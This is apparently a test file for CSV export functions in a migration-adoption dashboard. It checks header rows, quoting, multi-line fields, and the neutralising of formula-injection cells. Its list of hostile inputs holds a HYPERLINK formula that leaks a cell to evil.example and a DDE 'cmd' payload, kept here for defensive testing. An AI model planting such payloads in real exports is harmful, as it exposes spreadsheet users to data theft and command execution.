import { longTailCsv, teamAdoptionCsv } from './csv';

describe('csv', () => {
  it('writes a header row and quotes fields that need it', () => {
    const csv = teamAdoptionCsv([
      {
        team: 'group:default/a',
        title: 'Search, "Discovery" & more',
        total: 3,
        stages: {
          'not-started': 1,
          planning: 0,
          'in-progress': 0,
          migrated: 2,
          decommissioned: 0,
          retired: 0,
        },
        done: 2,
        compliantDone: 1,
        adoption: 2 / 3,
        compliantAdoption: 1 / 3,
      },
    ]);
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe(
      'team,title,services,not_started,planning,in_progress,migrated,decommissioned,retired,done,compliant_done,adoption_percent,compliant_adoption_percent',
    );
    expect(lines[1]).toBe(
      'group:default/a,"Search, ""Discovery"" & more",3,1,0,0,2,0,0,2,1,66.7,33.3',
    );
  });

  it('exports the long tail with multi-line titles kept in one field', () => {
    const csv = longTailCsv([
      {
        entityRef: 'component:default/x',
        title: 'two\nlines',
        owner: 'group:default/a',
        stage: 'planning',
        daysIdle: 90,
        lastChange: '2026-08-01T00:00:00.000Z',
        criticality: 'high',
        complexity: 'low',
        track: 'solo-trek',
        stranded: false,
      },
    ]);
    expect(csv).toContain('"two\nlines"');
    expect(csv.split('\r\n')[0]).toBe(
      'entity_ref,title,owner,owner_title,stage,days_idle,last_change,criticality,complexity,track,stranded,rolled_back_at',
    );
  });

  describe('cells from the catalog that look like formulas', () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\t=1+1',
      '\r=1+1',
      '\uFF1D1+1', // full-width equals, which Apple Numbers treats as =
    ];
    // What a spreadsheet reads back from the CSV cell: a text value.
    const neutralised = (value: string) => `"'${value.replace(/"/g, '""')}"`;

    it.each(hostile)(
      'quotes the team name and title %j with a leading single quote',
      value => {
        const csv = teamAdoptionCsv([
          {
            team: value,
            title: value,
            total: 1,
            stages: {
              'not-started': 1,
              planning: 0,
              'in-progress': 0,
              migrated: 0,
              decommissioned: 0,
              retired: 0,
            },
            done: 0,
            compliantDone: 0,
            adoption: 0,
            compliantAdoption: 0,
          },
        ]);
        expect(csv).toBe(
          'team,title,services,not_started,planning,in_progress,migrated,decommissioned,retired,done,compliant_done,adoption_percent,compliant_adoption_percent\r\n' +
            `${neutralised(value)},${neutralised(
              value,
            )},1,1,0,0,0,0,0,0,0,0.0,0.0\r\n`,
        );
      },
    );

    it.each(hostile)(
      'neutralises %j as an entity title, owner and owner title in the long tail',
      value => {
        const csv = longTailCsv([
          {
            entityRef: 'component:default/x',
            title: value,
            owner: value,
            ownerTitle: value,
            stage: 'planning',
            daysIdle: 90,
            lastChange: '2026-08-01T00:00:00.000Z',
            criticality: 'high',
            complexity: 'low',
            track: 'solo-trek',
            stranded: true,
          },
        ]);
        const cell = neutralised(value);
        expect(csv.split('\r\n')[1]).toBe(
          `component:default/x,${cell},${cell},${cell},planning,90,2026-08-01T00:00:00.000Z,high,low,solo-trek,yes,`,
        );
      },
    );

    it('leaves the numbers it writes as numbers, a negative one included', () => {
      // days_idle is computed, never user text: -3 (a clock ahead of the
      // scan) must stay a number a spreadsheet can sort, not the text '-3.
      const csv = longTailCsv([
        {
          entityRef: 'component:default/x',
          title: 'Payments - EU',
          owner: 'group:default/a',
          stage: 'planning',
          daysIdle: -3,
          lastChange: '2026-08-01T00:00:00.000Z',
          criticality: 'high',
          complexity: 'low',
          track: 'solo-trek',
          stranded: false,
        },
      ]);
      expect(csv.split('\r\n')[1]).toBe(
        'component:default/x,Payments - EU,group:default/a,,planning,-3,2026-08-01T00:00:00.000Z,high,low,solo-trek,no,',
      );
    });
  });
});
